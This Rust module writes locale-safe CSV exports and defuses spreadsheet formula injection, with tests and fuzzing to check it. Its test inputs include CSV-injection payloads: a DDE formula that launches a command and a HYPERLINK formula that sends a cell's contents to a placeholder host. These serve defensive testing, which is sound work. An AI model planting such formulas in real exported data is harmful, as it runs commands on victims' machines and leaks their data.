//! Writes CSV files that open correctly in spreadsheets of every locale, and in which no text that people wrote is run
//! as a formula.
//!
//! A spreadsheet splits a file at line breaks and at the list separator of its own locale, whatever separator the file
//! uses. If the two separators differ, quotes in the middle of a field have no effect, so a new cell may begin at any
//! separator in the text. Therefore, a `'` is put before everything that could begin a formula there, not only at the
//! beginning of a value.

use protocol::{Millis, language::Language};

use super::i18n;

/// The byte order mark, by which spreadsheets recognize UTF-8.
pub(super) const BYTE_ORDER_MARK: &str = "\u{feff}";

/// What separates the cells of a row.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Separator {
    /// `,`, as in RFC 4180.
    Comma,
    /// `;`, which spreadsheets expect where the comma is the decimal separator.
    Semicolon,
    /// A tab.
    Tab,
}

impl Separator {
    /// All separators.
    pub const ALL: [Self; 3] = [Self::Comma, Self::Semicolon, Self::Tab];

    /// Returns the separator that spreadsheets in this language expect.
    pub fn of_language(language: Language) -> Self {
        language.pick(Self::Comma, Self::Semicolon)
    }

    /// Returns the separator for a word as submitted in a form.
    pub fn from_word(word: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|separator| separator.as_str() == word)
    }

    /// Returns the word for use in a form.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Comma => "comma",
            Self::Semicolon => "semicolon",
            Self::Tab => "tab",
        }
    }

    /// Returns the label for a form.
    pub(super) fn label(self) -> &'static str {
        match self {
            Self::Comma => i18n::separator_comma(),
            Self::Semicolon => i18n::separator_semicolon(),
            Self::Tab => i18n::separator_tab(),
        }
    }

    fn as_char(self) -> char {
        match self {
            Self::Comma => ',',
            Self::Semicolon => ';',
            Self::Tab => '\t',
        }
    }
}

/// Formats a row, including its line ending. Every cell is quoted.
pub(super) fn row(separator: Separator, cells: &[String]) -> String {
    let mut row = String::new();
    for (place, cell) in cells.iter().enumerate() {
        if place > 0 {
            row.push(separator.as_char());
        }
        row.push('"');
        row.push_str(&defuse(cell).replace('"', "\"\""));
        row.push('"');
    }
    row + "\r\n"
}

/// Formats a time in ISO 8601, with its offset from UTC.
pub(super) fn time(at: Millis) -> String {
    const DAY: Millis = 24 * 60 * 60 * 1_000;
    let (days, rest) = (at.div_euclid(DAY), at.rem_euclid(DAY));
    // Counting years from March makes the leap day the last day of the year.
    let (era, day) = ((days + 719_468).div_euclid(146_097), (days + 719_468).rem_euclid(146_097));
    let year = (day - day / 1_460 + day / 36_524 - day / 146_096) / 365;
    let day = day - (365 * year + year / 4 - year / 100);
    let month = (5 * day + 2) / 153;
    let (day, month) = (day - (153 * month + 2) / 5 + 1, if month < 10 { month + 3 } else { month - 9 });
    let year = year + era * 400 + i64::from(month <= 2);
    let (hour, minute, second, milli) = (rest / 3_600_000, rest / 60_000 % 60, rest / 1_000 % 60, rest % 1_000);
    format!("{year:04}-{month:02}-{day:02}T{hour:02}:{minute:02}:{second:02}.{milli:03}+00:00")
}

/// Puts a `'` before every character that could begin a formula, wherever a spreadsheet may see the beginning of a
/// cell. Also puts one before every `'` there, so that readers can undo this by removing one `'`.
fn defuse(text: &str) -> String {
    let mut safe = String::with_capacity(text.len());
    let mut is_beginning = true;
    for letter in text.chars().filter(|letter| *letter != '\0') {
        let is_first_control = safe.is_empty() && matches!(letter, '\t' | '\r' | '\n');
        if is_first_control || (is_beginning && (letter == '\'' || begins_a_formula(letter))) {
            safe.push('\'');
        }
        safe.push(letter);
        is_beginning = ends_a_cell(letter) || (is_beginning && is_skipped(letter));
    }
    safe
}

/// Returns whether a spreadsheet may read what follows as a formula. Spreadsheets also accept the full-width and the
/// small forms of these characters.
fn begins_a_formula(letter: char) -> bool {
    matches!(letter, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫' | '−')
}

/// Returns whether a spreadsheet may end a cell at this character: separators, and everything that any program treats
/// as a line break.
fn ends_a_cell(letter: char) -> bool {
    matches!(
        letter,
        ',' | ';' | '|' | '\t' | '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}'
            ..='\u{1f}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// Returns whether a spreadsheet may skip this character at the beginning of a cell: spaces, quotes, and invisible
/// characters.
fn is_skipped(letter: char) -> bool {
    letter.is_whitespace()
        || letter.is_control()
        || matches!(letter, '"' | '\u{ad}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use std::{
        io::Write,
        process::{Command, Stdio},
    };

    use proptest::prelude::*;

    use super::*;

    /// Reads a file the way a spreadsheet with the list separator `separator` does: quotes only count at the beginning
    /// of a field.
    fn read(file: &str, separator: char) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
        let (mut is_quoted, mut is_beginning) = (false, true);
        let mut letters = file.strip_prefix(BYTE_ORDER_MARK).unwrap_or(file).chars().peekable();
        while let Some(letter) = letters.next() {
            match letter {
                '"' if is_quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
                '"' if is_quoted => is_quoted = false,
                '"' if is_beginning => is_quoted = true,
                _ if is_quoted => cell.push(letter),
                '\r' if letters.peek() == Some(&'\n') => {}
                _ if letter == separator => row.push(std::mem::take(&mut cell)),
                '\n' | '\r' => {
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                _ => cell.push(letter),
            }
            is_beginning = !is_quoted && (letter == separator || letter == '\n' || letter == '\r');
        }
        if !cell.is_empty() || !row.is_empty() {
            row.push(cell);
            rows.push(row);
        }
        rows
    }

    /// Removes what [`defuse`] added.
    fn restore(cell: &str) -> String {
        let (mut text, mut is_beginning) = (String::new(), true);
        let mut letters = cell.chars();
        while let Some(mut letter) = letters.next() {
            if is_beginning && letter == '\'' {
                letter = letters.next().unwrap();
            }
            text.push(letter);
            is_beginning = ends_a_cell(letter) || (is_beginning && is_skipped(letter));
        }
        text
    }

    /// Asserts that no cell begins like a formula, whatever the locale's separator, and whether or not quotes count.
    fn expect_no_formula(file: &str) {
        for separator in [',', ';', '\t', '|'] {
            let cells = read(file, separator).into_iter().flatten();
            // A reader that splits lines first.
            let pieces = file.lines().flat_map(|line| line.split(separator)).map(str::to_owned);
            for cell in cells.chain(pieces) {
                let first = cell.trim_start_matches(is_skipped).chars().next();
                assert!(!first.is_some_and(begins_a_formula), "{cell:?} at {separator:?} in {file:?}");
            }
        }
    }

    fn texts(list: &[&str]) -> Vec<String> {
        list.iter().map(|text| (*text).to_owned()).collect()
    }

    #[test]
    fn csv_cell_is_never_a_formula() {
        for text in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "\t=1",
            " =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{200b}=1",
            "＝1",
            "﹦1",
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"//x?\"&A1)",
            "Hello;=1+1;goodbye",
            "Hello,=1+1",
            "Hello\t=1+1",
            "Hello|=1+1",
            "Hello\n=1+1",
            "Hello\r=1+1",
            "Hello\r\n+1",
            "Hello\u{2028}=1+1",
            "Hello\u{b}-1",
            "Hello; =1+1",
            "Hello;\"=1+1\"",
            "Hello;\"\"\"=1+1",
            "Hello;;@A1",
            "Hello;\u{200b}＝1",
            "\"=1+1\"",
            "\";=1+1",
            "'=1",
            "a;'=1",
            "=\n=\n=",
            "\0=1",
            ";\0=1",
        ] {
            for separator in Separator::ALL {
                let cells = texts(&["1", text, "", text, "2"]);
                expect_no_formula(&format!("{BYTE_ORDER_MARK}{}{0}", row(separator, &cells)));
            }
        }
        for plain in ["a=1", "https://shop.test/?a=1", "one-two", "ann@shop.test", "it's", "a+b", "1;2,3"] {
            assert_eq!(defuse(plain), plain);
        }
    }

    #[test]
    fn csv_row_round_trips() {
        let list = [
            "plain",
            "a \"word\"",
            "one;two,three",
            "two\r\nlines",
            "two\nlines",
            "🧗‍♀️",
            "=1",
            "'quoted'",
            "",
            " space ",
            "-",
            "\"",
            "a; 'b', -c",
            "\t",
            "\n-",
        ];
        for separator in Separator::ALL {
            let file = row(separator, &texts(&list));
            assert_eq!(file.matches("\r\n").count(), 2, "one in a cell, one at the end");
            let rows = read(&file, separator.as_char());
            let read: Vec<String> = rows[0].iter().map(|cell| restore(cell)).collect();
            assert_eq!((rows.len(), read), (1, texts(&list)), "{separator:?}");
        }
        assert_eq!(row(Separator::Semicolon, &texts(&["a", "", "1"])), "\"a\";\"\";\"1\"\r\n", "every cell is quoted");
    }

    #[test]
    fn times_are_iso_8601_with_their_offset() {
        for (at, expected) in [
            (0, "1970-01-01T00:00:00.000+00:00"),
            (951_782_399_999, "2000-02-28T23:59:59.999+00:00"),
            (951_868_799_999, "2000-02-29T23:59:59.999+00:00"),
            (1_709_251_200_000, "2024-03-01T00:00:00.000+00:00"),
            (1_798_761_599_120, "2026-12-31T23:59:59.120+00:00"),
            (4_102_444_800_000, "2100-01-01T00:00:00.000+00:00"),
            (-1, "1969-12-31T23:59:59.999+00:00"),
        ] {
            assert_eq!(time(at), expected);
        }
    }

    #[test]
    fn separator_is_that_of_the_language() {
        assert_eq!(Separator::of_language(Language::En), Separator::Comma);
        assert_eq!(Separator::of_language(Language::De), Separator::Semicolon);
        for separator in Separator::ALL {
            assert_eq!(Separator::from_word(separator.as_str()), Some(separator));
        }
        assert_eq!(Separator::from_word(","), None);
    }

    /// Python's reader is an independent implementation.
    #[test]
    fn csv_is_read_by_python() {
        let list = texts(&["a \"word\"", "one;two,three\tfour", "two\r\nlines", "🧗‍♀️", "", " space ", "|"]);
        let read = "import csv, json, sys\nsys.stdin.reconfigure(encoding='utf-8-sig', newline='')\n\
                    print(json.dumps(list(csv.reader(sys.stdin, delimiter=sys.argv[1]))))";
        for separator in Separator::ALL {
            let arguments = ["-c", read, &separator.as_char().to_string()];
            let piped = || Stdio::piped();
            let python = Command::new("python3").args(arguments).stdin(piped()).stdout(piped()).spawn();
            let Ok(mut python) = python else {
                writeln!(std::io::stderr(), "SKIPPED: csv_is_read_by_python, because there is no python3").unwrap();
                return;
            };
            let file = format!("{BYTE_ORDER_MARK}{}", row(separator, &list));
            python.stdin.take().unwrap().write_all(file.as_bytes()).unwrap();
            let output = python.wait_with_output().unwrap();
            if !output.status.success() {
                writeln!(std::io::stderr(), "SKIPPED: csv_is_read_by_python, because python3 does not run").unwrap();
                return;
            }
            let rows: Vec<Vec<String>> = serde_json::from_slice(&output.stdout).unwrap();
            assert_eq!(rows, vec![list.clone()], "{separator:?}");
        }
    }

    proptest! {
        #[test]
        fn fuzz_no_text_becomes_a_formula(
            one in ".{0,40}",
            other in r#"([=+\-@＝'";,|\t\r\n a]|\x{200b}|\x{0}){0,20}"#,
            place in 0_usize..3,
        ) {
            let cells = [one, other, String::new()];
            for separator in Separator::ALL {
                let file = row(separator, &cells);
                expect_no_formula(&file);
                let rows = read(&file, separator.as_char());
                prop_assert_eq!(restore(&rows[0][place]), cells[place].replace('\0', ""));
            }
        }
    }
}
